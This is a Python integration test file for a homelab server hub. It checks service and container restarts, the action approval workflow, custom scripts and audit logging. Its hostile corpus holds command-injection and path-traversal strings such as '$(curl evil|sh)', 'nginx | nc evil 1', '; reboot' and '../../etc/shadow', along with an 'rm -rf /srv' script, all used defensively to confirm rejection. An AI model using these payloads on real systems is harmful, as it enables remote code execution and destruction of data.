"""Commands on machines, end to end against the real hub: restart buttons,
the remediation workflow (approve / reject / auto-approve), custom scripts,
the audit log, and a hostile corpus of names refused before anything runs.

The SSH tests use tests/integration/sshd.py: real OpenSSH sshd machines on
127.0.0.N whose systemctl/docker are stand-ins keeping state in files and
logging every call, so "nothing ran" is read from the target's own log."""
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import unittest
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from hlc import Hub, assert_error, free_port  # noqa: E402
import sshd  # noqa: E402

# Stand-in for sudo on the test machines (the real one, installed for visudo,
# must not give the test user root): accepts only the non-interactive form
# the hub sends, logs the call like the other stand-ins, passes VAR=value
# through the environment as sudo does, then runs the command as the same user.
SUDO = r"""#!/bin/sh
echo "$$ sudo $*" >> "$HLC_MACHINE/commands.log"
if [ "$1" != "-n" ]; then echo "sudo: a password is required" >&2; exit 1; fi
shift
while [ $# -gt 0 ]; do case "$1" in *=*) export "$1"; shift;; *) break;; esac; done
exec "$@"
"""

# What only an action (never a poll) runs on a machine.
ACTION_WORDS = ("sudo", "systemctl restart", "systemctl start", "systemctl stop", "docker start",
                "docker stop", "docker restart", "journalctl", "dd if=", "apt-get")


def hostile_names():
    """At least 100 names no whitelist pattern may accept. None holds '/',
    which would change the route itself (tested apart)."""
    frags = [";", "|", "&", "&&", "||", "$(id)", "`id`", "'", '"', " ", "\t", "\n", "\r",
             ">", "<", "*", "?", "[a]", "{a,b}", "~", "!", "#", "\\", "$HOME", "${IFS}",
             "%", "^", "=", ",", "(", ")", "\x01", "\x7f", "é", "\u202e", "；", "\u200b",
             "..", "+", "\x1b[31m"]
    names = []
    for f in frags:
        names += [f, f + "nginx", "ngi" + f + "nx", "nginx" + f]
    names += ["-nginx", "--help", "-", "--version", ".", "..", "...", "nginx..service",
              "nginx; reboot", "nginx && reboot", "nginx | nc evil 1", "nginx\nreboot",
              "$(curl evil|sh)", "`reboot`", "nginx' ; reboot ; '", 'nginx"; reboot; "',
              "a" * 10240, "nginx" + "x" * 200, "ünïcödé", "日本語", "😀", ".hidden"]
    return names


HOSTILE = hostile_names()


def q(name):
    return urllib.parse.quote(name, safe="")


class ExecutorNoSshTest(unittest.TestCase):
    """Everything that needs no reachable machine."""

    @classmethod
    def setUpClass(cls):
        cls.hub = Hub().start()
        cls.dead_port = free_port()  # nothing listens: connection refused

    @classmethod
    def tearDownClass(cls):
        code = cls.hub.stop()
        log = cls.hub.log()
        cls.hub.cleanup()
        assert code == 0, f"hub exit {code}\n{log[-3000:]}"
        assert "AddressSanitizer" not in log and "runtime error:" not in log, log[-5000:]

    def setUp(self):
        for m in self.hub.get("/api/v1/servers").json["servers"]:
            self.hub.delete(f"/api/v1/servers/{m['server_id']}")
        self.hub.put("/api/v1/config", {"remediation": {
            "auto_approve_enabled": False,
            "auto_approve_actions": ["restart_service", "clear_logs"],
            "require_approval_actions": ["apply_updates", "custom"]}})
        r = self.hub.post("/api/v1/servers", {
            "server_id": "dead", "hostname": "127.0.0.1", "ssh_port": self.dead_port,
            "ssh_user": "homelabcmd"})
        self.assertEqual(r.status, 201, r)
        # the audit log outlives deleted machines: look only at rows made now
        top = self.hub.get("/api/v1/audit?limit=1").json["entries"]
        self.audit_base = top[0]["id"] if top else 0

    def audit(self, qs=""):
        entries = self.hub.get(f"/api/v1/audit?limit=1000&{qs}").json["entries"]
        return [e for e in entries if e["id"] > self.audit_base]

    def test_unknown_machine_is_404_and_nothing_recorded(self):
        r = self.hub.post("/api/v1/servers/ghost/services/nginx/restart")
        assert_error(self, r, 404, "NOT_FOUND")
        r = self.hub.post("/api/v1/servers/ghost/containers/web/stop")
        assert_error(self, r, 404, "NOT_FOUND")
        r = self.hub.post("/api/v1/actions", {"server_id": "ghost", "action_type": "restart_service",
                                              "target": "nginx"})
        assert_error(self, r, 404)
        self.assertEqual(self.hub.get("/api/v1/actions?server_id=ghost").json["total"], 0)

    def test_unreachable_machine_is_409_with_reason_and_recorded(self):
        r = self.hub.post("/api/v1/servers/dead/services/nginx/restart")
        d = assert_error(self, r, 409, "MACHINE_UNREACHABLE")
        self.assertIn("unreachable", d["message"])
        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
        self.assertEqual(a["status"], "failed")
        self.assertEqual(a["action_type"], "restart_service")
        self.assertEqual(a["command"], "sudo -n systemctl restart 'nginx'")
        self.assertIn("unreachable", a["failure_reason"])
        self.assertIsNone(a["exit_code"])
        self.assertTrue(a["requested_by"].startswith("api_key@127.0.0.1"))
        self.assertFalse(a["result"]["success"])
        audit = self.audit("server_id=dead")
        self.assertEqual(len(audit), 1)
        self.assertEqual(audit[0]["command"], "sudo -n systemctl restart 'nginx'")
        self.assertEqual(audit[0]["trigger"], "api_key")
        self.assertEqual(audit[0]["status"], "failed")
        self.assertEqual(audit[0]["action_id"], d["action_id"])

    def test_root_user_gets_no_sudo(self):
        self.hub.put("/api/v1/servers/dead", {"ssh_user": "root"})
        r = self.hub.post("/api/v1/servers/dead/containers/web_1/restart")
        d = assert_error(self, r, 409)
        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
        self.assertEqual(a["command"], "docker restart 'web_1'")

    def test_hostile_names_are_400_and_never_recorded(self):
        self.assertGreaterEqual(len(HOSTILE), 100)
        paths = ["/api/v1/servers/dead/services/{}/restart", "/api/v1/servers/dead/services/{}/start",
                 "/api/v1/servers/dead/services/{}/stop", "/api/v1/servers/dead/containers/{}/start",
                 "/api/v1/servers/dead/containers/{}/stop",
                 "/api/v1/servers/dead/containers/{}/restart"]
        for name in HOSTILE:
            for p in paths:
                r = self.hub.post(p.format(q(name)))
                assert_error(self, r, 400, "INVALID_NAME")
            for t in ("restart_service", "container_stop", "clear_logs", "custom"):
                r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": t,
                                                      "target": name})
                assert_error(self, r, 400, "INVALID_NAME")
            r = self.hub.post("/api/v1/servers/dead/scripts", {"name": name, "script": "true"})
            assert_error(self, r, 400, "INVALID_NAME")
            r = self.hub.delete(f"/api/v1/servers/dead/scripts/{q(name)}")
            assert_error(self, r, 400, "INVALID_NAME")
        for path in ["../../etc/shadow", "/var/log/../../etc/shadow", "/etc/passwd", "/var/log/",
                     "/var/log/a/../b", "/var/log/.x", "/var/log//x", "var/log/syslog"]:
            r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "clear_logs",
                                                  "target": path})
            assert_error(self, r, 400, "INVALID_NAME")
        # '/' (even encoded) and NUL change the route itself: no handler runs
        for raw in ("nginx%2F..%2F..%2Fetc", "nginx%00%3Breboot", "%2F", "..%2F"):
            r = self.hub.post(f"/api/v1/servers/dead/services/{raw}/restart")
            self.assertIn(r.status, (400, 404), r)
        self.assertEqual(self.hub.get("/api/v1/actions").json["total"], 0)
        self.assertEqual(self.audit(), [])

    def test_workflow_states_and_illegal_moves(self):
        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
                                              "target": "plex"})
        self.assertEqual(r.status, 201, r)
        a = r.json
        self.assertEqual(a["status"], "pending")
        self.assertFalse(a["auto_approved"])
        self.assertIsNone(a["approved_at"])
        self.assertEqual(a["command"], "sudo -n systemctl restart 'plex'")
        pending = self.hub.get("/api/v1/actions?status=pending").json
        self.assertEqual([x["action_id"] for x in pending["actions"]], [a["action_id"]])
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/reject")
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["status"], "rejected")
        self.assertIsNotNone(r.json["completed_at"])
        assert_error(self, self.hub.post(f"/api/v1/actions/{a['action_id']}/approve"), 409,
                     "ILLEGAL_STATE")
        assert_error(self, self.hub.post(f"/api/v1/actions/{a['action_id']}/reject"), 409)
        assert_error(self, self.hub.post("/api/v1/actions/00000000-0000-4000-8000-000000000000/approve"),
                     404)
        assert_error(self, self.hub.post("/api/v1/actions/not-an-id/reject"), 404)
        hist = self.hub.get("/api/v1/actions/history").json["actions"]
        self.assertEqual([x["status"] for x in hist], ["rejected"])
        # a rejected action ran nothing
        self.assertEqual(self.audit(), [])
        # approving a pending one on an unreachable machine: it runs, fails, is audited
        a2 = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "clear_logs",
                                               "target": "journal",
                                               "parameters": {"days": 3}}).json
        self.assertEqual(a2["command"], "sudo -n journalctl --vacuum-time=3d")
        self.assertEqual(a2["parameters"], {"days": 3})
        r = self.hub.post(f"/api/v1/actions/{a2['action_id']}/approve")
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["status"], "failed")
        self.assertIsNotNone(r.json["approved_at"])
        self.assertIsNotNone(r.json["executed_at"])
        assert_error(self, self.hub.post(f"/api/v1/actions/{a2['action_id']}/approve"), 409)
        audit = self.audit("action_type=clear_logs")
        self.assertEqual(len(audit), 1)
        self.assertEqual(audit[0]["trigger"], "api_key")

    def test_body_validation(self):
        for body, field in [({"server_id": "dead", "action_type": "reboot", "target": "x"}, "action_type"),
                            ({"server_id": "dead", "action_type": "restart_service"}, "target"),
                            ({"server_id": "dead", "action_type": "restart_service", "target": 5}, "target"),
                            ({"server_id": "dead", "action_type": "restart_service", "target": "x",
                              "extra": 1}, None),
                            ({"server_id": "dead", "action_type": "restart_service", "target": "x",
                              "parameters": {"days": 3}}, "parameters.days"),
                            ({"server_id": "dead", "action_type": "clear_logs", "target": "journal",
                              "parameters": {"days": 0}}, "parameters.days")]:
            r = self.hub.post("/api/v1/actions", body)
            assert_error(self, r, 422, "VALIDATION_ERROR", field)
        for qs, field in [("status=done", "status"), ("limit=0", "limit"), ("limit=x", "limit")]:
            assert_error(self, self.hub.get(f"/api/v1/actions?{qs}"), 422, field=field)
        for qs, field in [("since=yesterday", "since"), ("action_type=rm", "action_type"),
                          ("limit=1001", "limit"), ("server_id=A%20B", "server_id")]:
            assert_error(self, self.hub.get(f"/api/v1/audit?{qs}"), 422, field=field)
        # the audit log has no write verbs
        self.assertEqual(self.hub.delete("/api/v1/audit").status, 405)
        self.assertEqual(self.hub.put("/api/v1/audit", {}).status, 405)

    def test_auto_approve_per_type(self):
        self.hub.put("/api/v1/config", {"remediation": {"auto_approve_enabled": True}})
        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
                                              "target": "plex"})
        self.assertEqual(r.status, 201, r)
        self.assertTrue(r.json["auto_approved"])
        self.assertEqual(r.json["status"], "failed")  # it ran at once; the machine is down
        audit = self.audit()
        self.assertEqual(audit[0]["trigger"], "auto_approve")
        self.assertEqual(audit[0]["action_id"], r.json["action_id"])
        # not listed: stays pending
        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "container_stop",
                                              "target": "web"})
        self.assertEqual(r.json["status"], "pending")
        # apply_updates and custom need approval unless explicitly enabled
        self.hub.post("/api/v1/servers/dead/scripts", {"name": "hello", "script": "echo hi"})
        self.hub.put("/api/v1/config", {"remediation": {
            "auto_approve_actions": ["restart_service", "clear_logs", "apply_updates", "custom"]}})
        for t, tgt in (("apply_updates", "system"), ("custom", "hello")):
            r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": t, "target": tgt})
            self.assertEqual(r.json["status"], "pending", r)
        self.hub.put("/api/v1/config", {"remediation": {"require_approval_actions": []}})
        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
                                              "target": "hello"})
        self.assertTrue(r.json["auto_approved"], r)
        self.assertEqual(r.json["command"], "echo hi")

    def test_custom_scripts(self):
        r = self.hub.post("/api/v1/servers/dead/scripts", {
            "name": "prune-images", "script": "docker image prune -f\necho done",
            "description": "free disk"})
        self.assertEqual(r.status, 201, r)
        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
                                         {"name": "prune-images", "script": "x"}), 409)
        assert_error(self, self.hub.post("/api/v1/servers/ghost/scripts",
                                         {"name": "a", "script": "x"}), 404)
        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
                                         {"name": "a", "script": "x\ry"}), 422, field="script")
        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
                                         {"name": "a", "script": "x" * 9000}), 422, field="script")
        lst = self.hub.get("/api/v1/servers/dead/scripts").json
        self.assertEqual([s["name"] for s in lst["scripts"]], ["prune-images"])
        self.assertEqual(lst["scripts"][0]["script"], "docker image prune -f\necho done")
        a = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
                                              "target": "prune-images"}).json
        self.assertEqual(a["command"], "docker image prune -f\necho done")
        self.assertEqual(a["status"], "pending")
        # redefined after queueing: the reviewed command is not what would run
        self.assertEqual(self.hub.delete("/api/v1/servers/dead/scripts/prune-images").status, 204)
        self.hub.post("/api/v1/servers/dead/scripts", {"name": "prune-images", "script": "rm -rf /srv"})
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve")
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["status"], "failed")
        self.assertIn("changed since", r.json["failure_reason"])
        assert_error(self, self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
                                                             "target": "nope"}), 404, field="target")
        assert_error(self, self.hub.delete("/api/v1/servers/dead/scripts/nope"), 404)

    def test_concurrent_approvals_run_once(self):
        a = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
                                              "target": "plex"}).json
        results = []

        def approve():
            results.append(self.hub.post(f"/api/v1/actions/{a['action_id']}/approve").status)

        ths = [threading.Thread(target=approve) for _ in range(6)]
        for t in ths:
            t.start()
        for t in ths:
            t.join()
        self.assertEqual(sorted(results), [200] + [409] * 5)
        self.assertEqual(len(self.audit("server_id=dead")), 1)


class ExecutorSshTest(unittest.TestCase):
    """Against real sshd machines with the systemctl/docker stand-ins."""

    @classmethod
    def setUpClass(cls):
        cls.hub = Hub().start()
        pub = cls.hub.get("/api/v1/ssh/public-key").json["public_key"]
        cls.fleet = sshd.Fleet(2, pub, first_ip=60).start()
        for i, m in enumerate(cls.fleet.machines):
            p = os.path.join(m.dir, "bin", "sudo")
            with open(p, "w") as f:
                f.write(SUDO)
            os.chmod(p, 0o755)
            r = cls.hub.post("/api/v1/servers", {
                "server_id": f"box{i}", "hostname": m.host, "ssh_port": m.port,
                "ssh_user": sshd.USER,
                # not critical: a critical unit found stopped would make the
                # alert engine queue restarts of its own (test_alerts.py)
                "expected_services": [{"name": "nginx", "critical": False}]})
            assert r.status == 201, r
        cls.m = cls.fleet.machines[0]

    @classmethod
    def tearDownClass(cls):
        cls.fleet.stop()
        code = cls.hub.stop()
        log = cls.hub.log()
        cls.hub.cleanup()
        shutil.rmtree(cls.fleet.base, ignore_errors=True)
        assert code == 0, f"hub exit {code}\n{log[-3000:]}"
        assert "AddressSanitizer" not in log and "runtime error:" not in log, log[-5000:]

    def setUp(self):
        self.hub.put("/api/v1/config", {"remediation": {
            "auto_approve_enabled": False, "command_timeout_seconds": 60,
            "auto_approve_actions": ["restart_service", "clear_logs"],
            "require_approval_actions": ["apply_updates", "custom"]}})
        for m in self.fleet.machines:
            m.hang(False)
            slow = os.path.join(m.dir, "slow_restart")
            if os.path.exists(slow):
                os.unlink(slow)

    def action_lines(self, m, since):
        """Exec lines the machine ran since index `since` that only an action runs."""
        return [l for l in m.exec_log()[since:] if any(w in l for w in ACTION_WORDS)]

    def test_restart_stopped_unit_leaves_it_active(self):
        m = self.m
        m.set_unit("nginx", "inactive")
        self.assertEqual(self.hub.post("/api/v1/servers/box0/poll").status, 200)
        svc = self.hub.get("/api/v1/servers/box0/services").json["services"]
        self.assertEqual([s["status"] for s in svc if s["service_name"] == "nginx"], ["stopped"])
        n = len(m.exec_log())
        r = self.hub.post("/api/v1/servers/box0/services/nginx/restart")
        self.assertEqual(r.status, 200, r)
        b = r.json
        self.assertEqual(b["status"], "completed")
        self.assertEqual(b["exit_code"], 0)
        self.assertEqual(b["stderr"], "")
        self.assertFalse(b["stdout_truncated"])
        self.assertGreaterEqual(b["duration_ms"], 0)
        self.assertEqual(m.unit_state("nginx"), "active")
        self.assertEqual(self.action_lines(m, n), ["sudo -n systemctl restart 'nginx'"])
        self.assertIn("systemctl restart nginx", m.command_log())
        a = self.hub.get(f"/api/v1/actions/{b['action_id']}").json
        self.assertEqual(a["status"], "completed")
        self.assertTrue(a["result"]["success"])
        self.assertIsNotNone(a["approved_at"])
        audit = [e for e in self.hub.get("/api/v1/audit?server_id=box0").json["entries"]
                 if e["action_id"] == b["action_id"]]
        self.assertEqual(len(audit), 1)
        self.assertEqual(audit[0]["command"], "sudo -n systemctl restart 'nginx'")
        self.assertEqual(audit[0]["exit_code"], 0)
        self.assertEqual(audit[0]["trigger"], "api_key")
        # the machine is re-polled after the action: its service list turns fresh
        deadline = time.time() + 10
        while time.time() < deadline:
            svc = self.hub.get("/api/v1/servers/box0/services").json["services"]
            if [s["status"] for s in svc if s["service_name"] == "nginx"] == ["running"]:
                break
            time.sleep(0.1)
        else:
            self.fail(f"services not re-polled: {svc}")

    def test_failing_command_reports_failed_with_stderr(self):
        m = self.m
        m.set_unit("db", "broken")
        r = self.hub.post("/api/v1/servers/box0/services/db/start")
        self.assertEqual(r.status, 200, r)
        self.assertEqual(r.json["status"], "failed")
        self.assertEqual(r.json["exit_code"], 1)
        self.assertIn("Job for db.service failed", r.json["stderr"])
        a = self.hub.get(f"/api/v1/actions/{r.json['action_id']}").json
        self.assertEqual(a["failure_reason"], "exit status 1")
        self.assertIn("Job for db.service failed", a["result"]["error"])
        r = self.hub.post("/api/v1/servers/box0/containers/nope/restart")
        self.assertEqual(r.json["status"], "failed")
        self.assertIn("No such container: nope", r.json["stderr"])

    def test_service_stop_start_and_containers(self):
        m = self.m
        m.set_unit("smbd", "active")
        self.assertEqual(self.hub.post("/api/v1/servers/box0/services/smbd/stop").json["exit_code"], 0)
        self.assertEqual(m.unit_state("smbd"), "inactive")
        self.assertEqual(self.hub.post("/api/v1/servers/box0/services/smbd.service/start").json["exit_code"], 0)
        self.assertEqual(m.unit_state("smbd"), "active")
        m.set_container("web", "exited")
        r = self.hub.post("/api/v1/servers/box0/containers/web/start")
        self.assertEqual((r.status, r.json["status"], r.json["stdout"]), (200, "completed", "web\n"))
        self.assertEqual(m.container_state("web"), "running")
        self.hub.post("/api/v1/servers/box0/containers/web/stop")
        self.assertEqual(m.container_state("web"), "exited")
        self.hub.post("/api/v1/servers/box0/containers/web/restart")
        self.assertEqual(m.container_state("web"), "running")
        self.assertIn("sudo -n docker restart 'web'", m.exec_log())

    def test_timeout_is_504_and_recorded_failed(self):
        m = self.m
        m.set_unit("slowd", "inactive")
        with open(os.path.join(m.dir, "slow_restart"), "w") as f:
            f.write("4")
        self.hub.put("/api/v1/config", {"remediation": {"command_timeout_seconds": 1}})
        t0 = time.time()
        r = self.hub.post("/api/v1/servers/box0/services/slowd/restart")
        self.assertLess(time.time() - t0, 3.5)
        d = assert_error(self, r, 504, "TIMEOUT")
        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
        self.assertEqual(a["status"], "failed")
        self.assertEqual(a["failure_reason"], "timeout")
        self.assertIsNone(a["exit_code"])
        audit = [e for e in self.hub.get("/api/v1/audit?server_id=box0&action_type=restart_service")
                 .json["entries"] if e["action_id"] == d["action_id"]]
        self.assertEqual(audit[0]["failure_reason"], "timeout")
        os.unlink(os.path.join(m.dir, "slow_restart"))
        self.hub.put("/api/v1/config", {"remediation": {"command_timeout_seconds": 60}})
        time.sleep(3.5)  # the timed-out restart finishes on the target
        r = self.hub.post("/api/v1/servers/box0/services/slowd/restart")
        self.assertEqual((r.status, r.json["exit_code"]), (200, 0), r)

    def test_hostile_corpus_runs_nothing(self):
        m = self.fleet.machines[1]
        n, nc = len(m.exec_log()), len(m.command_log())
        na = self.hub.get("/api/v1/actions?server_id=box1&limit=1000").json["total"]
        paths = ["/api/v1/servers/box1/services/{}/restart", "/api/v1/servers/box1/services/{}/start",
                 "/api/v1/servers/box1/services/{}/stop", "/api/v1/servers/box1/containers/{}/start",
                 "/api/v1/servers/box1/containers/{}/stop",
                 "/api/v1/servers/box1/containers/{}/restart",
                 "/api/v1/servers/box1/scripts/{}"]
        for name in HOSTILE:
            for p in paths:
                method = "DELETE" if p.endswith("scripts/{}") else "POST"
                r = self.hub.request(method, p.format(q(name)))
                assert_error(self, r, 400, "INVALID_NAME")
            for t in ("restart_service", "start_service", "stop_service", "container_start",
                      "container_stop", "container_restart", "clear_logs", "custom"):
                r = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": t,
                                                      "target": name})
                assert_error(self, r, 400, "INVALID_NAME")
            r = self.hub.post("/api/v1/servers/box1/scripts", {"name": name, "script": "true"})
            assert_error(self, r, 400, "INVALID_NAME")
        self.assertEqual(self.action_lines(m, n), [])
        self.assertFalse(any(l.startswith(("sudo", "systemctl restart", "systemctl start",
                                           "systemctl stop", "docker start", "docker stop",
                                           "docker restart")) for l in m.command_log()[nc:]))
        self.assertEqual(self.hub.get("/api/v1/actions?server_id=box1&limit=1000").json["total"], na)

    def test_approve_reject_auto_approve_end_to_end(self):
        m = self.fleet.machines[1]
        m.set_unit("plex", "inactive")
        n = len(m.exec_log())
        a = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "restart_service",
                                              "target": "plex"}).json
        self.assertEqual(a["status"], "pending")
        b = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "restart_service",
                                              "target": "plex"}).json
        self.assertEqual(self.hub.post(f"/api/v1/actions/{b['action_id']}/reject").json["status"],
                         "rejected")
        self.assertEqual(self.action_lines(m, n), [])  # queued and rejected: nothing ran
        self.assertEqual(m.unit_state("plex"), "inactive")
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve")
        self.assertEqual(r.status, 200, r)
        self.assertEqual((r.json["status"], r.json["exit_code"]), ("completed", 0))
        self.assertEqual(m.unit_state("plex"), "active")
        self.assertEqual(self.action_lines(m, n), ["sudo -n systemctl restart 'plex'"])
        # auto-approve: runs at once, recorded as such
        self.hub.put("/api/v1/config", {"remediation": {
            "auto_approve_enabled": True, "auto_approve_actions": ["container_restart"]}})
        m.set_container("db", "exited")
        r = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "container_restart",
                                              "target": "db"})
        self.assertEqual(r.status, 201, r)
        self.assertEqual((r.json["status"], r.json["auto_approved"], r.json["exit_code"]),
                         ("completed", True, 0))
        self.assertEqual(m.container_state("db"), "running")
        entries = {e["action_id"]: e for e in
                   self.hub.get("/api/v1/audit?server_id=box1").json["entries"]}
        self.assertEqual(entries[a["action_id"]]["trigger"], "api_key")
        self.assertEqual(entries[r.json["action_id"]]["trigger"], "auto_approve")
        self.assertNotIn(b["action_id"], entries)
        hist = [x["action_id"] for x in self.hub.get("/api/v1/actions/history?server_id=box1")
                .json["actions"]]
        for x in (a["action_id"], b["action_id"], r.json["action_id"]):
            self.assertIn(x, hist)

    def test_custom_script_runs_verbatim_with_capped_output(self):
        m = self.fleet.machines[1]
        script = "echo hello; id -un\nprintf '\\377ok' >&2"
        self.assertEqual(self.hub.post("/api/v1/servers/box1/scripts",
                                       {"name": "hello", "script": script}).status, 201)
        a = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "custom",
                                              "target": "hello"}).json
        n = len(m.exec_log())
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve").json
        self.assertEqual(r["status"], "completed", r)
        self.assertEqual(r["stdout"], f"hello\n{sshd.USER}\n")
        self.assertEqual(r["stderr"], "\ufffdok")  # invalid UTF-8 made safe
        ran = [l for l in m.exec_log()[n:] if not l.startswith("exec sh -s")]
        self.assertEqual(ran, script.split("\n"))  # the exec line, verbatim
        big = "head -c 70000 /dev/zero | tr '\\0' a"
        self.hub.post("/api/v1/servers/box1/scripts", {"name": "big", "script": big})
        a = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "custom",
                                              "target": "big"}).json
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve").json
        self.assertEqual(len(r["stdout"]), 65536)
        self.assertTrue(r["stdout_truncated"])
        audit = [e for e in self.hub.get("/api/v1/audit?server_id=box1&action_type=custom")
                 .json["entries"] if e["action_id"] == a["action_id"]][0]
        self.assertEqual(len(audit["stdout"]), 8192)
        self.assertTrue(audit["stdout_truncated"])
        self.assertEqual(audit["command"], big)

    def test_output_past_the_first_window_does_not_stall(self):
        # The hub holds its window adjust back while it reads (to send it with
        # the channel's close); past 32 KiB of output it must let it go, or the
        # server waits on a full window until the kernel's 200 ms cork timeout.
        def fastest(name, script):
            self.hub.post("/api/v1/servers/box1/scripts", {"name": name, "script": script})
            best = None
            for _ in range(3):
                a = self.hub.post("/api/v1/actions", {"server_id": "box1", "action_type": "custom",
                                                      "target": name}).json
                r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve").json
                self.assertEqual(r["status"], "completed", r)
                best = r["duration_ms"] if best is None else min(best, r["duration_ms"])
            return best
        small = fastest("small", "echo hi")
        large = fastest("large", "head -c 300000 /dev/zero")
        self.assertLess(large - small, 150, (small, large))

    def test_apply_updates_needs_approval_and_runs_the_template(self):
        m = self.fleet.machines[1]
        self.hub.put("/api/v1/config", {"remediation": {"auto_approve_enabled": True}})
        a = self.hub.post("/api/v1/actions", {"server_id": "box1",
                                              "action_type": "apply_updates"}).json
        self.assertEqual((a["status"], a["target"]), ("pending", "system"))
        n = len(m.exec_log())
        # it may run for an hour: approval answers 202 at once, the worker runs it
        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve")
        self.assertEqual(r.status, 202, r)
        self.assertIn(r.json["status"], ("approved", "executing", "failed"))
        self.assertIsNotNone(r.json["approved_at"])
        deadline = time.time() + 20
        while time.time() < deadline:
            r = self.hub.get(f"/api/v1/actions/{a['action_id']}").json
            if r["status"] in ("completed", "failed"):
                break
            time.sleep(0.05)
        want = ("sudo -n DEBIAN_FRONTEND=noninteractive apt-get -q update && "
                "sudo -n DEBIAN_FRONTEND=noninteractive apt-get -q -y -o "
                "Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold upgrade")
        self.assertEqual(self.action_lines(m, n), [want])
        # the stand-in apt-get only simulates: the run fails with its stderr
        self.assertEqual(r["status"], "failed")
        self.assertIn("only simulations", r["stderr"])
        self.assertIn("apt-get -q update", m.command_log()[-1])
        entry = [e for e in self.hub.get("/api/v1/audit?action_type=apply_updates").json["entries"]
                 if e["action_id"] == a["action_id"]][0]
        self.assertEqual((entry["trigger"], entry["command"]), ("api_key", want))
        self.assertEqual(entry["exit_code"], 100)

    def run_action(self, body):
        """Queues an action and approves it; returns the approval's body."""
        a = self.hub.post("/api/v1/actions", body)
        self.assertEqual(a.status, 201, a)
        self.assertEqual(a.json["status"], "pending", a)
        r = self.hub.post(f"/api/v1/actions/{a.json['action_id']}/approve")
        self.assertEqual(r.status, 200, r)
        return r.json

    def audit_of(self, action_id):
        rows = [e for e in self.hub.get("/api/v1/audit?server_id=box0&action_type=clear_logs")
                .json["entries"] if e["action_id"] == action_id]
        self.assertEqual(len(rows), 1, rows)
        return rows[0]

    def test_clear_logs_vacuums_the_journal(self):
        m = self.m
        mb = 1 << 20
        m.add_journal_file("system@0005f1a2b3c4d5e6-aaaa.journal", 8 * mb, 10)
        m.add_journal_file("user-1000@0005f1a2b3c4d5e6-bbbb.journal", 2 * mb, 5)
        m.add_journal_file("system@0005f1a2b3c4d5e6-cccc.journal", 4 * mb, 1)
        m.add_journal_file("system.journal", 16 * mb, 20)  # active: never vacuumed
        n, nc = len(m.exec_log()), len(m.command_log())
        b = self.run_action({"server_id": "box0", "action_type": "clear_logs",
                             "target": "journal", "parameters": {"days": 3}})
        want = "sudo -n journalctl --vacuum-time=3d"
        self.assertEqual((b["status"], b["exit_code"], b["stdout"]), ("completed", 0, ""), b)
        self.assertEqual(b["command"], want)
        jd = f"/var/log/journal/{sshd.JOURNAL_ID}"
        self.assertEqual(b["stderr"],
                         f"Deleted archived journal {jd}/system@0005f1a2b3c4d5e6-aaaa.journal (8.0M).\n"
                         f"Deleted archived journal {jd}/user-1000@0005f1a2b3c4d5e6-bbbb.journal (2.0M).\n"
                         f"Vacuuming done, freed 10.0M of archived journals from {jd}.\n")
        self.assertEqual(m.journal_files(), ["system.journal", "system@0005f1a2b3c4d5e6-cccc.journal"])
        self.assertEqual(self.action_lines(m, n), [want])
        self.assertEqual(m.command_log()[nc:], ["sudo -n journalctl --vacuum-time=3d",
                                                "journalctl --vacuum-time=3d"])
        a = self.audit_of(b["action_id"])
        self.assertEqual((a["command"], a["exit_code"], a["status"], a["trigger"]),
                         (want, 0, "completed", "api_key"))
        self.assertIn("freed 10.0M", a["stderr"])
        # the default keeps 7 days: with nothing that old left, nothing goes
        b = self.run_action({"server_id": "box0", "action_type": "clear_logs", "target": "journal"})
        self.assertEqual((b["status"], b["command"]),
                         ("completed", "sudo -n journalctl --vacuum-time=7d"))
        self.assertEqual(b["stderr"], f"Vacuuming done, freed 0B of archived journals from {jd}.\n")
        self.assertEqual(len(m.journal_files()), 2)
        # days that are not a whole number in range never reach the machine
        n = len(m.exec_log())
        for days in ("3; reboot", 0, -1, 3651, 2.5, True):
            r = self.hub.post("/api/v1/actions", {"server_id": "box0", "action_type": "clear_logs",
                                                  "target": "journal", "parameters": {"days": days}})
            assert_error(self, r, 422, "VALIDATION_ERROR", "parameters.days")
        self.assertEqual(self.action_lines(m, n), [])

    def logdir(self):
        """A fresh directory in this machine's real /var/log, removed afterwards."""
        d = tempfile.mkdtemp(prefix="hlc-test-", dir="/var/log")
        self.addCleanup(shutil.rmtree, d, True)
        os.chmod(d, 0o755)
        return d

    def owned_file(self, path, text):
        """A file the test user may write (the sudo stand-in does not gain root)."""
        with open(path, "w") as f:
            f.write(text)
